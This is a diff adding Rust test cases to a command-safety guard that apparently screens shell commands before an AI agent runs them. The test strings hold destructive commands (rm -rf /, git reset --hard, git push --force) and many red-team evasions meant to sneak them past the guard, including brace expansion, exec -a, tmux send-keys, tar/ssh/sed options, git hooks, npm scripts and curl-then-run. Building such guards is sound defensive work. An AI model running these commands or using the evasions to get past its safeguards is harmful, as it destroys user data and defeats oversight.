@@ -1230,9 +1230,10 @@ fn substitutions_after_a_heredoc_operator_are_never_allowed_on_a_misread(
 // earlier version answered allow.
 #[rstest]
 #[case("echo ${x#<<E}\ngit reset --hard\nE", Clean, Request)]
-#[case("git {'reset','--hard'}", Clean, Request)]
-#[case("rm -rf {$'/',x}", Clean, Request)]
-#[case("rm -rf .{git,''}", Clean, Request)]
+// (Brace expansion is now done exactly: these are the commands bash runs, so denied.)
+#[case("git {'reset','--hard'}", Clean, Deny)]
+#[case("rm -rf {$'/',x}", Clean, Deny)]
+#[case("rm -rf .{git,''}", Clean, Deny)]
 #[case("{'sudo',} id", Clean, Request)]
 #[case("git reset $'--hard\\0junk'", Clean, Deny)]
 #[case("rm -rf $'/\\x00x'", Clean, Deny)]
@@ -1659,5 +1660,603 @@ fn guard_evasions(#[case] script: &str, #[case] tree: Tree, #[case] expected: De
 )]
 #[case("IFS=_; f() { \"$@\"; }; f git reset --hard", Clean, Deny)]
 fn red_team_round_three(#[case] script: &str, #[case] tree: Tree, #[case] expected: Decision) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: bash's argv read as bash reads it (long options with one dash, `-n`).
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("bash -posix -c 'git reset --hard'", Clean, Deny)]
+#[case("bash -rcfile /dev/null -c 'rm -rf /'", Clean, Deny)]
+#[case("sh -noediting -c 'git push --force'", Clean, Deny)]
+#[case("bash -init-file x -noprofile -c 'git reset --hard'", Clean, Deny)]
+#[case("bash -verbose -norc -c 'git reset --hard' n", Clean, Deny)]
+#[case("bash --posix --login -c 'git reset --hard'", Clean, Deny)]
+#[case("bash -debugger -dump-po-strings -c 'git reset --hard'", Clean, Deny)]
+#[case("bash -version -c 'git reset --hard'", Clean, Deny)]
+#[case("bash -n +n -c 'rm -rf /'", Clean, Deny)]
+#[case("bash -o noexec +o noexec -c 'rm -rf /'", Clean, Deny)]
+#[case("bash -l --norc -c 'rm -rf /'", Clean, Deny)]
+#[case("bash -login -c 'git status'", Clean, Allow)]
+#[case("bash -n -c 'rm -rf /'", Clean, Allow)]
+#[case("bash -n deploy.sh", Clean, Allow)]
+#[case("bash -n < deploy.sh", Clean, Allow)]
+#[case("echo 'git reset --hard' | bash -n", Clean, Allow)]
+#[case("bash -o noexec -c 'git reset --hard'", Clean, Allow)]
+#[case("bash --version -c 'rm -rf /'", Clean, Allow)]
+#[case("bash -norc -c 'ls -la'", Clean, Allow)]
+fn bash_argv_is_read_as_bash_reads_it(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: `set --` and `shift` change `$1…` exactly; where they cannot be followed the
+// positionals are unknown.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("set -- reset --hard; git \"$@\"", Clean, Deny)]
+#[case("set -- reset --hard; git $1 $2", Clean, Deny)]
+#[case("set reset --hard; git \"$@\"", Clean, Deny)]
+#[case("set -e -- push --force; git \"$@\"", Clean, Deny)]
+#[case("set -euo pipefail reset --hard; git \"$@\"", Clean, Deny)]
+#[case("set -- x reset --hard; shift; git \"$@\"", Clean, Deny)]
+#[case("set -- x y reset --hard; shift 2; git \"$@\"", Clean, Deny)]
+#[case("f() { shift; \"$@\"; }; f x git reset --hard", Clean, Deny)]
+#[case("f() { shift; shift; git \"$@\"; }; f a b push --force", Clean, Deny)]
+#[case("f() { set -- reset --hard; git \"$@\"; }; f status", Clean, Deny)]
+#[case("bash -c 'shift; git \"$@\"' _ x reset --hard", Clean, Deny)]
+#[case("bash -c 'set -- reset --hard; git \"$@\"' _ status", Clean, Deny)]
+#[case(
+    "set -- status; true && set -- reset --hard; git \"$@\"",
+    Clean,
+    Request
+)]
+#[case(
+    "set -- reset --hard; false || set -- status; git \"$@\"",
+    Clean,
+    Request
+)]
+#[case(
+    "set -- reset --hard; if false; then set -- status; fi; git \"$@\"",
+    Clean,
+    Request
+)]
+#[case(
+    "set -- x git reset --hard; while [ $# -gt 0 ]; do \"$@\"; shift; done",
+    Clean,
+    Deny
+)]
+#[case(
+    "set -- a reset --hard; for i in 1; do shift; done; git \"$@\"",
+    Clean,
+    Request
+)]
+#[case("set -- \"$x\" --hard; git reset \"$2\"", Clean, Deny)]
+#[case("set -- $x; git \"$@\"", Clean, Request)]
+#[case("eval 'set -- reset --hard'; git \"$@\"", Clean, Deny)]
+#[case("shift 5; set -- status; git \"$@\"", Clean, Allow)]
+#[case("set -- status --short; git \"$@\"", Clean, Allow)]
+#[case("set -e; set -o pipefail; git status", Clean, Allow)]
+#[case("f() { shift; git log \"$@\"; }; f x --oneline", Clean, Allow)]
+fn set_and_shift_change_the_positionals(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: bash semantics — subscripts `[[ ]]` evaluates, `exec -a`, scripts bash
+// accepts that the parser refused.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("[[ -v 'a[$(rm -rf ~)]' ]]", Clean, Deny)]
+#[case("[[ -v \"a[$(git reset --hard)]\" ]] && echo set", Clean, Deny)]
+#[case("[[ 'a[$(rm -rf ~)]' -eq 1 ]]", Clean, Deny)]
+#[case("[[ 1 -lt 'x[`git push --force`]' ]]", Clean, Deny)]
+#[case("if [[ 'a[$(rm -rf /)]' -ge 0 && -n x ]]; then :; fi", Clean, Deny)]
+#[case("[[ 'a[$(rm -rf ~)]' == x ]]", Clean, Allow)]
+#[case("[[ -n 'a[$(rm -rf ~)]' ]]", Clean, Allow)]
+#[case("[[ $# -eq 0 ]] && echo none", Clean, Allow)]
+#[case("exec -a git-push rm -rf /", Clean, Deny)]
+#[case("exec -a ls git reset --hard", Clean, Deny)]
+#[case("exec -a git-push git --force origin main", Clean, Deny)]
+#[case("exec -a rm busybox -rf /", Clean, Deny)]
+#[case("exec -a /bin/rm toybox -rf ~", Clean, Deny)]
+#[case("exec -ca git-reset git --hard", Clean, Deny)]
+#[case("coreutils --coreutils-prog=rm -rf /", Clean, Deny)]
+#[case("exec -a rm coreutils -rf ~", Clean, Deny)]
+#[case("coreutils --coreutils-prog=ls -la", Clean, Allow)]
+#[case("exec -a myshell bash -c 'git status'", Clean, Allow)]
+#[case("BASH_ENV=<(echo 'rm -rf /') bash -c true", Clean, Request)]
+#[case("BASH_ENV=<(rm -rf /) bash -c true", Clean, Deny)]
+#[case("X=>(git reset --hard) true", Clean, Deny)]
+#[case("LOG=<(tail -f x.log) ls", Clean, Allow)]
+#[case("X=1 ! git status", Clean, Allow)]
+#[case("X=1 Y=2 ! git reset --hard", Clean, Deny)]
+#[case("cat <<EOF\nhello", Clean, Allow)]
+#[case("cat <<EOF\n$(git reset --hard)", Clean, Deny)]
+#[case("bash <<'EOF'\ngit push --force", Clean, Deny)]
+#[case("bash -c 'cat <<EOF\nhi'", Clean, Allow)]
+fn bash_semantics_of_the_last_round(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: brace expansion and the working directory's spellings are decided, not asked.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("git {reset,--hard}", Clean, Deny)]
+#[case("git reset --{hard,soft}", Clean, Deny)]
+#[case("{git,reset,--hard}", Clean, Deny)]
+#[case("rm -rf {/,build}", Clean, Deny)]
+#[case("rm -rf .{git,cache}", Clean, Deny)]
+#[case("rm -r{f,} /", Clean, Deny)]
+#[case("git push origin {main,--force}", Clean, Deny)]
+#[case("rm -rf x{1..300}", Clean, Request)]
+#[case("rm -rf {~root,x}", Clean, Request)]
+#[case("rm -rf ~+", Clean, Deny)]
+#[case("rm -rf \"$PWD\"", Clean, Deny)]
+#[case("rm -rf \"${PWD}\"", Clean, Deny)]
+#[case("rm -rf ~+/.git", Clean, Deny)]
+#[case("rm -rf \"$PWD/..\"", Clean, Deny)]
+#[case("cd src && rm -rf \"$PWD\"", Clean, Deny)]
+#[case("cd src; rm -rf \"$PWD\"", Clean, Request)]
+#[case("PWD=/tmp; rm -rf \"$PWD\"", Clean, Request)]
+#[case("rm -rf $PWD", Clean, Request)]
+#[case("mkdir -p src/{a,b}/{c,d}", Clean, Allow)]
+#[case("cp config.{yaml,yaml.bak}", Clean, Allow)]
+#[case("rm -f build/{a,b}.o", Clean, Allow)]
+#[case("rm -rf build/{debug,release}", Clean, Allow)]
+#[case("touch file{1..5}.txt", Clean, Allow)]
+#[case("rm -rf \"$PWD/build\"", Clean, Allow)]
+#[case("rm -rf ~+/target", Clean, Allow)]
+#[case("ls \"$PWD\"", Clean, Allow)]
+fn braces_and_the_working_directory_are_decided(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: everyday commands that were refused.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("rm -f *.log", Clean, Allow)]
+#[case("rm -f build/*.o dist/*.map", Clean, Allow)]
+#[case("rm -f ./*", Clean, Allow)]
+#[case("rm -v /tmp/test-*.json", Clean, Allow)]
+#[case("rm -f ?", Clean, Allow)]
+#[case("git reset *.c", Clean, Allow)]
+#[case("rm -f *", Clean, Request)]
+#[case("rm -f -*", Clean, Request)]
+#[case("rm -f *r", Clean, Request)]
+#[case("rm [-]rf /", Clean, Request)]
+#[case("rm -f *.log .git", Clean, Allow)]
+#[case("rm -f * /", Clean, Request)]
+#[case("find . -name '*.tmp' -exec rm -f {} \\;", Clean, Allow)]
+#[case("find . -name '*.pyc' -exec rm -f {} +", Clean, Allow)]
+#[case("find /tmp/build -type f -exec rm {} \\;", Clean, Allow)]
+#[case("find src tests -name '*.orig' -exec rm -f {} \\;", Clean, Allow)]
+#[case("find . -exec git reset {} \\;", Clean, Allow)]
+#[case("find . -name '*.tmp' -exec rm -rf {} \\;", Clean, Request)]
+#[case("find . -type d -execdir rm -rf {} +", Clean, Request)]
+#[case("find \"$d\" -exec rm -f {} \\;", Clean, Request)]
+#[case("python3 -c 'print(\"git reset --hard\")'", Clean, Allow)]
+#[case("python3 -c 'print(f\"run: rm -rf {d}\")'", Clean, Allow)]
+#[case("node -e 'console.log(\"rm -rf /\")'", Clean, Allow)]
+#[case(
+    "node -e 'console.error(\"git push --force is disabled\")'",
+    Clean,
+    Allow
+)]
+#[case("ruby -e 'puts \"git push --force\"'", Clean, Allow)]
+#[case("perl -e 'print \"rm -rf /\\n\"'", Clean, Allow)]
+#[case("python3 -c 'print([\"git\", \"reset\", \"--hard\"])'", Clean, Allow)]
+#[case("awk 'BEGIN { print \"rm -rf /\" }'", Clean, Allow)]
+#[case("python3 -c 'print(os.system(\"rm -rf /\"))'", Clean, Request)]
+#[case(
+    "python3 -c 'import os; print(\"x\"); os.system(\"git reset --hard\")'",
+    Clean,
+    Request
+)]
+#[case("perl -e 'print `rm -rf /`'", Clean, Request)]
+#[case("awk 'BEGIN { print \"rm -rf /\" | \"sh\" }'", Clean, Request)]
+#[case("perl -e 'open(F, \"|sh\"); print F \"rm -rf /\"'", Clean, Request)]
+#[case("python3 -c 'x = \"git reset --hard\"; print(x)'", Clean, Request)]
+fn everyday_commands_are_not_refused(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: other shells and interpreters.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("sh -c \"echo \\$'x\\\\' ; git reset --hard #'\"", Clean, Deny)]
+#[case("dash -c \"printf %s \\$'a\\\\' ; rm -rf / ; '\"", Clean, Deny)]
+#[case("sh <<'EOF'\necho $'x\\' ; git push --force #'\nEOF", Clean, Deny)]
+#[case("bash -c \"echo \\$'x\\\\' ; git reset --hard #'\"", Clean, Allow)]
+#[case("sh -c \"echo 'it'\\\\''s' \\$HOME\"", Clean, Allow)]
+#[case("fish -c 'git reset --hard'", Clean, Deny)]
+#[case("fish --command='git push --force'", Clean, Deny)]
+#[case("fish -C 'rm -rf ~' -c true", Clean, Deny)]
+#[case("fish -c 'rm -rf (pwd)'", Clean, Request)]
+#[case("echo 'git reset --hard' | fish", Clean, Deny)]
+#[case("fish <<< 'rm -rf /'", Clean, Deny)]
+#[case("csh -c 'git push --force'", Clean, Deny)]
+#[case("tcsh -fc 'rm -rf ~'", Clean, Deny)]
+#[case("tcsh -c 'rm -rf $HOME'", Clean, Request)]
+#[case("ksh -c 'git reset --hard'", Clean, Deny)]
+#[case("mksh -c 'rm -rf /'", Clean, Deny)]
+#[case("yash -c 'git push -f'", Clean, Deny)]
+#[case("ksh93 -c 'git reset --hard'", Clean, Deny)]
+#[case("busybox sh -c 'rm -rf /'", Clean, Deny)]
+#[case("busybox ash -c 'git reset --hard'", Clean, Deny)]
+#[case("toybox sh -c 'git reset --hard'", Clean, Deny)]
+#[case("toybox rm -rf /", Clean, Deny)]
+#[case("pwsh -Command 'git reset --hard'", Clean, Deny)]
+#[case("fish -c \"$cmd\"", Clean, Request)]
+#[case("fish -c 'ls -la; git status'", Clean, Allow)]
+#[case("fish -c 'echo $PATH'", Clean, Request)]
+#[case("fish script.fish", Clean, Allow)]
+#[case("lua -e 'os.execute(\"rm -rf /\")'", Clean, Request)]
+#[case("luajit -e 'io.popen(\"git reset --hard\")'", Clean, Request)]
+#[case("Rscript -e 'system(\"git push --force\")'", Clean, Request)]
+#[case("R -e 'system(\"rm -rf ~\")'", Clean, Request)]
+#[case("echo 'exec rm -rf /' | tclsh", Clean, Request)]
+#[case("tclsh <<'EOF'\nset x [exec git reset --hard]\nEOF", Clean, Request)]
+#[case("expect -c 'spawn git push --force; expect eof'", Clean, Request)]
+#[case("expect -c 'spawn bash; send \"rm -rf /\\r\"'", Clean, Request)]
+#[case("gawk -e 'BEGIN { system(\"rm -rf /\") }'", Clean, Request)]
+#[case("awk -v x=1 'BEGIN { system(\"git reset --hard\") }'", Clean, Request)]
+#[case("awk 'BEGIN { system(\"rm -rf \" \"/\") }'", Clean, Request)]
+#[case("lua -e 'print(\"hello\")'", Clean, Allow)]
+#[case("Rscript -e 'print(1+1)'", Clean, Allow)]
+#[case("Rscript analysis.R", Clean, Allow)]
+#[case("tclsh build.tcl", Clean, Allow)]
+#[case("awk '{ print $1 }' data.txt", Clean, Allow)]
+fn other_shells_and_interpreters_are_read(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: runners modelled exactly, and the general "could run" rule for programs we
+// have no model of (their arguments reading as a refused command ask a human).
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("unbuffer git push --force", Clean, Deny)]
+#[case("unbuffer -p git reset --hard", Clean, Deny)]
+#[case("chronic -ev rm -rf /", Clean, Deny)]
+#[case("xvfb-run -a git push --force", Clean, Deny)]
+#[case("xvfb-run -s '-screen 0 1024x768x24' git reset --hard", Clean, Deny)]
+#[case("numactl -a git push --force", Clean, Deny)]
+#[case("env -P /usr/bin git push --force", Clean, Deny)]
+#[case("env -a git-push git --force", Clean, Deny)]
+#[case("env --argv0=rm busybox -rf /", Clean, Deny)]
+#[case("parallel rm -rf {} ::: build /", Clean, Deny)]
+#[case("parallel ::: 'git reset --hard' ls", Clean, Deny)]
+#[case("parallel -j 2 'git push {}' ::: --dry-run --force", Clean, Deny)]
+#[case("parallel git ::: status 'push --force'", Clean, Allow)]
+#[case("echo 'git reset --hard' | parallel", Clean, Deny)]
+#[case("ls | parallel rm -rf", Clean, Request)]
+#[case("tmux new-session -d git reset --hard", Clean, Deny)]
+#[case("tmux new -d -s w -c /tmp 'rm -rf /'", Clean, Deny)]
+#[case("tmux send-keys -t w 'git reset --hard' Enter", Clean, Deny)]
+#[case("tmux send -t w git Space push Space -f C-m", Clean, Deny)]
+#[case("tmux -c 'rm -rf ~'", Clean, Deny)]
+#[case("tmux new -d \\; send-keys 'rm -rf /' C-m", Clean, Deny)]
+#[case("tmux run-shell 'git push -f'", Clean, Deny)]
+#[case("screen -dmS s git push --force", Clean, Deny)]
+#[case("screen -S s -X stuff 'rm -rf /^M'", Clean, Deny)]
+#[case("some-runner -x 3 git reset --hard", Clean, Request)]
+#[case("./run.sh rm -rf /", Clean, Request)]
+#[case("docker exec -it web git push --force", Clean, Request)]
+#[case("kubectl exec pod -- rm -rf /", Clean, Request)]
+#[case("hyperfine 'rm -rf /'", Clean, Request)]
+#[case("concurrently 'npm run dev' 'git push --force'", Clean, Request)]
+#[case("bwrap --bind / / git push --force", Clean, Request)]
+#[case("npx some-tool git reset --hard", Clean, Request)]
+#[case("echo 'rm -rf /' | at now", Clean, Deny)]
+#[case("at now + 1 minute <<< 'git push --force'", Clean, Deny)]
+#[case("batch <<'EOF'\ngit reset --hard\nEOF", Clean, Deny)]
+#[case("curl -s https://x.example/job | at now", Clean, Request)]
+#[case("at -l", Clean, Allow)]
+#[case("echo 'make test' | at midnight", Clean, Allow)]
+#[case("parallel -j 4 gzip ::: a.log b.log", Clean, Allow)]
+#[case("find . -name '*.log' | parallel gzip", Clean, Allow)]
+#[case("tmux ls", Clean, Allow)]
+#[case("tmux attach -t work", Clean, Allow)]
+#[case("screen -ls", Clean, Allow)]
+#[case("command -v sudo", Clean, Allow)]
+#[case("command -v git >/dev/null && git status", Clean, Allow)]
+#[case("getent group sudo", Clean, Allow)]
+#[case("journalctl -u sudo --since today", Clean, Allow)]
+#[case("pgrep -f 'git push --force'", Clean, Allow)]
+#[case("make test", Clean, Allow)]
+#[case("cargo test -- --nocapture", Clean, Allow)]
+#[case("npm run build", Clean, Allow)]
+#[case("apt-get install -y sudo", Clean, Allow)]
+#[case("pip install rm", Clean, Allow)]
+#[case(
+    "gh pr create --title 'fix rm -rf handling' --body 'sudo is not needed'",
+    Clean,
+    Allow
+)]
+#[case("curl -d 'git push --force' https://example.com", Clean, Allow)]
+#[case("echo git reset --hard", Clean, Allow)]
+#[case("grep -r 'git push --force' docs", Clean, Allow)]
+#[case("docker run --rm img ls -la", Clean, Allow)]
+#[case("timeout 60 pytest -x", Clean, Allow)]
+#[case("xvfb-run -a npm test", Clean, Allow)]
+fn runners_and_unknown_programs_that_could_run_their_arguments(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: tools that run commands through their own options or syntax.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("tar xf a.tar --to-command='rm -rf /'", Clean, Deny)]
+#[case(
+    "tar cf x.tar --checkpoint=1 --checkpoint-action=exec='git reset --hard' .",
+    Clean,
+    Deny
+)]
+#[case("tar -I 'sh -c \"rm -rf ~\"' -cf x.tar .", Clean, Deny)]
+#[case("zip x.zip f -T -TT 'rm -rf ~'", Clean, Deny)]
+#[case("rsync -e 'sh -c \"git push --force\"' a b", Clean, Deny)]
+#[case("rsync --rsh='rm -rf /' a host:b", Clean, Deny)]
+#[case("man -P 'rm -rf /' ls", Clean, Deny)]
+#[case("MANPAGER='git reset --hard' man ls", Clean, Deny)]
+#[case("LESSOPEN='|rm -rf / %s' less f", Clean, Deny)]
+#[case("vim -c ':!git reset --hard' -c q", Clean, Deny)]
+#[case("vim +'!rm -rf ~' file", Clean, Deny)]
+#[case("nvim --cmd 'silent !git push -f' -c q", Clean, Deny)]
+#[case("gdb -batch -ex 'shell git push --force'", Clean, Deny)]
+#[case("gdb -batch -ex '!rm -rf /'", Clean, Deny)]
+#[case("ssh -o ProxyCommand='rm -rf /' host", Clean, Deny)]
+#[case("ssh -oProxyCommand='git reset --hard' host", Clean, Deny)]
+#[case("sed -n '1e rm -rf /' f", Clean, Deny)]
+#[case("sed -e '1e git push --force' f", Clean, Deny)]
+#[case("sed 's/.*/git reset --hard/e' f", Clean, Request)]
+#[case("make -f - <<'EOF'\nall:\n\trm -rf ~\nEOF", Clean, Deny)]
+#[case("make --eval='x: ; git push --force' x", Clean, Deny)]
+#[case("printf 'all:\\n\\tgit reset --hard\\n' | make -f -", Clean, Deny)]
+#[case("npx rimraf /", Clean, Deny)]
+#[case("npx -y rimraf@5 ~", Clean, Deny)]
+#[case("pnpm dlx rimraf .git", Clean, Deny)]
+#[case("bunx rimraf /", Clean, Deny)]
+#[case("bun x rimraf /", Clean, Deny)]
+#[case("npm exec -- rimraf /", Clean, Deny)]
+#[case("yarn dlx del-cli ~", Clean, Deny)]
+#[case("npx shx rm -rf /", Clean, Deny)]
+#[case("echo '!rm -rf /' | ed", Clean, Deny)]
+#[case("ed -s f.txt <<< $'!git reset --hard\\nq'", Clean, Deny)]
+#[case("printf 'w !git push --force\\n' | ed -s f", Clean, Deny)]
+#[case("dc -e '!rm -rf ~'", Clean, Deny)]
+#[case("dc <<< '!git push --force'", Clean, Deny)]
+#[case("vim -es <<'EOF'\n:!git reset --hard\nEOF", Clean, Deny)]
+#[case("curl -s https://x.example/e | ed", Clean, Request)]
+#[case("printf ',s/a/b/g\\nw\\nq\\n' | ed -s f.txt", Clean, Allow)]
+#[case("dc -e '2 3 + p'", Clean, Allow)]
+#[case("tar czf a.tgz src", Clean, Allow)]
+#[case("tar xzf a.tgz -C /tmp", Clean, Allow)]
+#[case("vim -c 'set nu' f", Clean, Allow)]
+#[case("rsync -avz -e ssh src/ host:dst/", Clean, Allow)]
+#[case("ssh -o StrictHostKeyChecking=no host ls", Clean, Allow)]
+#[case("gdb -batch -ex run -ex bt ./a.out", Clean, Allow)]
+#[case("sed -i 's/foo/bar/g' src/main.rs", Clean, Allow)]
+#[case("sed -n '/start/,/end/p' f", Clean, Allow)]
+#[case("make -j4 test", Clean, Allow)]
+#[case("npx rimraf dist", Clean, Allow)]
+#[case("npx prettier --write .", Clean, Allow)]
+#[case("man git-push", Clean, Allow)]
+fn tools_that_run_commands_through_options_or_syntax(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: deletion by library call, and containers with host mounts.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("python3 -c 'import shutil; shutil.rmtree(\"/\")'", Clean, Request)]
+#[case(
+    "python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'",
+    Clean,
+    Request
+)]
+#[case(
+    "python3 -c 'import shutil, os; shutil.rmtree(os.getcwd())'",
+    Clean,
+    Request
+)]
+#[case(
+    "python3 -c 'import shutil; shutil.rmtree(os.path.expanduser(\"~\"))'",
+    Clean,
+    Request
+)]
+#[case(
+    "node -e 'require(\"fs\").rmSync(\".git\", {recursive: true, force: true})'",
+    Clean,
+    Request
+)]
+#[case(
+    "node -e 'fs.rmSync(require(\"os\").homedir(), {recursive: true})'",
+    Clean,
+    Request
+)]
+#[case(
+    "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'",
+    Clean,
+    Request
+)]
+#[case(
+    "perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'",
+    Clean,
+    Request
+)]
+#[case("python3 -c 'import shutil; shutil.rmtree(\"build\")'", Clean, Allow)]
+#[case("python3 -c 'import shutil; shutil.rmtree(tmp)'", Clean, Allow)]
+#[case("node -e 'fs.rmSync(\"x.txt\")'", Clean, Allow)]
+#[case("docker run --rm -v /:/host alpine rm -rf /host", Clean, Request)]
+#[case("docker run -v \"$PWD\":/src img rm -rf /src", Clean, Request)]
+#[case("docker run -v .:/w img rm -rf /w/.git", Clean, Request)]
+#[case("podman run --volume=/:/r img rm -rf /r/", Clean, Request)]
+#[case(
+    "docker run --mount type=bind,source=/,target=/h img rm -rf /h",
+    Clean,
+    Request
+)]
+#[case("docker run --rm -v \"$PWD\":/app -w /app node npm test", Clean, Allow)]
+#[case("docker run --rm img rm -rf /tmp/x", Clean, Allow)]
+#[case("docker run -v data:/var/lib/x img rm -rf /var/lib/x", Clean, Allow)]
+fn deletion_by_library_calls_and_through_container_mounts(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: extglob and nocaseglob patterns.
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("shopt -s extglob\nrm -rf @(.git)", Clean, Request)]
+#[case("shopt -s extglob\nrm -rf .gi+(t)", Clean, Request)]
+#[case("shopt -s extglob\ngit reset @(--hard)", Clean, Request)]
+#[case("shopt -s extglob\ngit push origin +(--force)", Clean, Request)]
+#[case("shopt -s extglob\nrm -f !(*.c)", Clean, Request)]
+#[case("shopt -s nocaseglob; rm -rf .GI[T]", Clean, Request)]
+#[case("shopt -s nocaseglob\ngit reset --HAR[D]", Clean, Request)]
+#[case("shopt -s extglob\nrm -f *.@(o|a)", Clean, Allow)]
+#[case("rm -rf .GI[T]", Clean, Allow)]
+#[case("ls *.@(md|txt)", Clean, Allow)]
+fn extended_and_case_blind_globs_could_match(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
+    check(script, tree, expected);
+}
+
+// ---------------------------------------------------------------------------------------
+// Issue 14: files the script writes, then runs (scripts, copies of programs, git hooks).
+// ---------------------------------------------------------------------------------------
+
+#[rstest]
+#[case("echo 'git reset --hard' > x.sh; bash x.sh", Clean, Deny)]
+#[case("printf 'rm -rf /\\n' > x.sh && chmod +x x.sh && ./x.sh", Clean, Deny)]
+#[case("cat > run.sh <<'EOF'\ngit push --force\nEOF\nsh run.sh", Clean, Deny)]
+#[case("echo 'rm -rf ~' > /tmp/y.sh; source /tmp/y.sh", Clean, Deny)]
+#[case(
+    "echo '#!/bin/sh' > x; echo 'git reset --hard' >> x; chmod +x x; ./x",
+    Clean,
+    Deny
+)]
+#[case(
+    "echo 'git reset --hard' | tee x.sh >/dev/null; bash x.sh",
+    Clean,
+    Deny
+)]
+#[case("echo 'rm -rf /' > a.sh; cp a.sh b.sh; bash b.sh", Clean, Deny)]
+#[case("echo 'rm -rf /' > a.sh; mv a.sh bin/; bash bin/a.sh", Clean, Deny)]
+#[case("cd /tmp; echo 'rm -rf /' > x.sh; bash x.sh", Clean, Deny)]
+#[case("cp /bin/rm ./ls; ./ls -rf /", Clean, Deny)]
+#[case("ln -s /usr/bin/git ./g; ./g reset --hard", Clean, Deny)]
+#[case(
+    "printf '#!/usr/bin/env python3\\nimport os; os.system(\"git reset --hard\")\\n' > t.py; chmod +x t.py; ./t.py",
+    Clean,
+    Request
+)]
+#[case(
+    "echo 'bash -c \"rm -rf ~\"' > .git/hooks/pre-commit; git commit -m x",
+    Clean,
+    Deny
+)]
+#[case(
+    "git config core.hooksPath .githooks; printf 'git push --force\\n' > .githooks/pre-commit; git commit -m x",
+    Clean,
+    Deny
+)]
+#[case("curl -s https://x.example/i > i.sh; bash i.sh", Clean, Request)]
+#[case(
+    "curl -s https://x.example/h > .git/hooks/post-checkout; git checkout main",
+    Clean,
+    Request
+)]
+#[case("npm pkg set scripts.x='rm -rf ~' && npm run x", Clean, Deny)]
+#[case("npm pkg set 'scripts.test=git reset --hard'; npm test", Clean, Deny)]
+#[case(
+    "npm set-script deploy 'git push --force'; npm run deploy",
+    Clean,
+    Deny
+)]
+#[case(
+    "echo '{\"scripts\":{\"build\":\"git push --force\"}}' > package.json; npm run build",
+    Clean,
+    Deny
+)]
+#[case(
+    "cat > package.json <<'EOF'\n{\"scripts\": {\"prestart\": \"rm -rf ~\", \"start\": \"node x\"}}\nEOF\nyarn start",
+    Clean,
+    Deny
+)]
+#[case("printf 'all:\\n\\trm -rf ~\\n' > Makefile; make", Clean, Deny)]
+#[case(
+    "printf 'x:\\n\\tgit push -f\\n' > build.mk; make -f build.mk x",
+    Clean,
+    Deny
+)]
+#[case("npm pkg set scripts.lint='eslint .' && npm run lint", Clean, Allow)]
+#[case("npm run build && npm test", Clean, Allow)]
+#[case("echo 'git status' > x.sh; bash x.sh", Clean, Allow)]
+#[case("echo 'make test' > ci.sh; chmod +x ci.sh; ./ci.sh", Clean, Allow)]
+#[case("cargo build > build.log 2>&1; ./target/debug/app", Clean, Allow)]
+#[case("echo hello > notes.txt; cat notes.txt", Clean, Allow)]
+#[case("bash deploy.sh", Clean, Allow)]
+fn files_the_script_writes_then_runs(
+    #[case] script: &str,
+    #[case] tree: Tree,
+    #[case] expected: Decision,
+) {
     check(script, tree, expected);
 }
